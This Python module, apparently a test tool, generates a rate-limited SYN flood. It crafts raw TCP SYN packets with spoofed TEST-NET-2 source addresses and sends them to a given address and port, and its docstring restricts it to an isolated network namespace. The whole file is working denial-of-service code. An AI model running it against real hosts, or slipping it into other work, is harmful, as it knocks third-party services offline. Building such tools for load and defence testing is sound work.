"""SYNs from addresses that do not exist, at a fixed rate.

    python -m tools.live.flood ADDRESS PORT RATE SECONDS

Prints how many there were. Only for a namespace whose packets do not leave the machine.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time
from contextlib import suppress

SOURCES = "198.51.100.0/24"
"""Where the addresses are from: TEST-NET-2 (RFC 5737)."""
BATCH = 2000
"""Number of different SYNs; they are sent in turn."""


def syn(target: str, port: int, address: str | None = None) -> bytes:
    """Make a SYN from an address, or else from a random one, and a random port."""
    address = address or SOURCES.replace("0/24", str(random.randrange(1, 255)))
    source = socket.inet_aton(address)
    there = socket.inet_aton(target)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, there)
    ports = random.randrange(1024, 65536), port
    tcp = struct.pack(">HHIIBBHHH", *ports, random.getrandbits(32), 0, 0x50, 2, 1000, 0, 0)
    pseudo = source + there + struct.pack(">BBH", 0, 6, len(tcp))
    total = sum(struct.unpack(f">{len(pseudo + tcp) // 2}H", pseudo + tcp))
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return ip + tcp[:16] + struct.pack(">H", checksum) + tcp[18:]


def main() -> None:
    """Send until the time is over."""
    target, port = sys.argv[1], int(sys.argv[2])
    rate, seconds = float(sys.argv[3]), float(sys.argv[4])
    packets = [syn(target, port) for _ in range(BATCH)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    began, sent, tried = time.monotonic(), 0, 0
    while (past := time.monotonic() - began) < seconds:
        while tried < past * rate:
            # what does not fit into the device is not sent
            with suppress(OSError):
                raw.sendto(packets[tried % BATCH], (target, 0))
                sent += 1
            tried += 1
        time.sleep(0.002)
    print(sent)


if __name__ == "__main__":
    main()
